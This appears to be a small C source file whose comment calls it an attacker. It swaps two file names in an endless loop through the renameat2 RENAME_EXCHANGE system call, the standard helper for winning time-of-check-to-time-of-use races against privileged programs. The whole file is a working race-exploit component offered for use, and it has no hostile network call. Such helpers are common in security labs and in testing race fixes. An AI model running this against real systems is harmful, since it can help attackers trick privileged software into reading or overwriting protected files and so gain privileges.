/* Exchanges two names for ever, as fast as the kernel does it: attacker FIRST SECOND */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int count, char **names) {
    if (count != 3) return 2;
    for (;;) syscall(SYS_renameat2, AT_FDCWD, names[1], AT_FDCWD, names[2], RENAME_EXCHANGE);
}
